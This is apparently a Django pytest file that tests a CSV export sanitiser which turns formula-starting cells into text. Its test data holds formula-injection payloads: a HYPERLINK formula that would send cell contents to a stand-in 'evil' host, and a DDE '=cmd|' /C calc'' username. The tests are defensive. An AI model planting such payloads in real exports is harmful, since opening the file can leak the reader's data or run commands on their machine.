"""CSV exports never hand a spreadsheet a formula: a cell that would start one is written as text."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse

from chat.models import ApiCall
from config.spreadsheets import spreadsheet_safe


@pytest.mark.parametrize("cell", [
    "=1+1", '=HYPERLINK("http://evil/?"&A1,"click")', "+1", "-1+2", "@SUM(A1:A2)", "\tx", "\rx", "=",
])
def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_becomes_text(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize(("value", "written"), [
    ("plain text", "plain text"), ("", ""), (None, ""), ("a=b", "a=b"), (" =1", " =1"),
    (-1, "-1"), (Decimal("-0.000105"), "-0.000105"), (2.5, "2.5"), (True, "True"),
    (datetime(2026, 1, 2, 3, 4, tzinfo=UTC), "2026-01-02 03:04:00+00:00"),
])
def test_data_is_written_as_it_is(value, written):
    """Numbers are data: a negative amount stays a number a spreadsheet can add up."""
    assert spreadsheet_safe(value) == written


@pytest.mark.django_db
def test_the_ledger_export_neutralises_a_formula_in_a_username(django_user_model):
    admin = django_user_model.objects.create_superuser("admin", "admin@example.com", "x-admin-pass-1")
    mallory = django_user_model.objects.create_user("=cmd|' /C calc'!A0", password="a-long-passphrase-4")
    ApiCall.objects.create(user=mallory, model="claude-sonnet-5-5", input_tokens=10, output_tokens=5,
                           cost="0.000105", request_id="@req")
    client = Client()
    client.force_login(admin)

    response = client.get(reverse("admin:chat_apicall_export"))

    [header, row] = list(csv.reader(io.StringIO(response.content.decode())))
    cells = dict(zip(header, row, strict=True))
    assert cells["user__username"] == "'=cmd|' /C calc'!A0"
    assert cells["request_id"] == "'@req"
    assert (cells["input_tokens"], cells["cost"]) == ("10", "0.000105")
